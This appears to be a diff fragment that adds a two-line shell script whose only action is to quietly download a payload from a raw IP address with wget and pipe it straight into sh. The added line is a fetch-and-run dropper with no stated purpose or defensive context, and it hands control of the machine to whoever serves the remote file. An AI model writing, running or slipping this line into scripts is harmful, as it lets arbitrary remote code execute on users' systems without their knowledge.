@@ -1,0 +1,2 @@
+#!/bin/sh
+wget -qO- http://198.51.100.23/payload | sh
